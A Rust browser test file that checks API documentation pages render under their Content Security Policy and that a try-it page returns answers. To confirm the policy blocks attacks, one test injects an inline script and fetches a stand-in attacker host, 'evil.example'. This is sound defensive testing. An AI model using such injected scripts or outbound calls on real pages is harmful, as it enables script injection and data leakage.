//! The pages that describe the API, under the policies that they are served with.

use crate::browser::Browser;
use fasttrack_tests::{Server, eventually};
use serde_json::json;

#[tokio::test]
async fn every_page_works_with_what_its_policy_allows_and_nothing_more() {
    let Some(browser) = Browser::start().await else { return };
    let server = Server::start();
    for (path, rendered) in [
        ("/docs", "document.querySelectorAll('.opblock').length > 40"),
        ("/redoc", "document.querySelectorAll('[data-section-id^=\"tag/\"]').length > 5"),
        ("/docs/realtime", "document.querySelector('[role=status]')?.textContent === 'Not connected.'"),
    ] {
        browser.open(&format!("{}{path}", server.url())).await;
        let shown = format!("return {rendered};");
        eventually(&format!("{path} is shown"), async || browser.run(&shown).await == true).await;
        assert_eq!(browser.complaints().await, Vec::<String>::new(), "{path}");

        // A script that somebody has smuggled in doesn't run, and nobody else can be told anything.
        let ran = "const script = document.createElement('script');
            script.textContent = 'window.ran = true';
            document.body.append(script);
            return window.ran ?? false;";
        assert_eq!(browser.run(ran).await, false, "{path}");
        let told = "return fetch('https://evil.example', {mode: 'no-cors'}).then(() => 'told', () => 'refused');";
        assert_eq!(browser.run(told).await, "refused", "{path}");
        let complaints = browser.complaints().await;
        let refused = complaints.iter().filter(|line| line.contains("Content Security Policy")).count();
        assert!(refused >= 2, "{complaints:#?}");
    }
    browser.close().await;
}

#[tokio::test]
async fn the_page_to_try_the_api_sends_requests_and_shows_answers() {
    let Some(browser) = Browser::start().await else { return };
    let server = Server::start();
    browser.open(&format!("{}/docs#/operations/live", server.url())).await;
    let press = |what: &str| {
        format!("const button = document.querySelector('{what}'); button?.click(); return button !== null;")
    };
    eventually("it is opened", async || browser.run(&press(".opblock .execute")).await == true).await;
    let answer = "return document.querySelector('.live-responses-table .response-col_status')?.textContent ?? '';";
    eventually("it is answered", async || browser.run(answer).await.as_str().unwrap().starts_with("200")).await;
    assert_eq!(json!(browser.complaints().await), json!([]));
    browser.close().await;
}
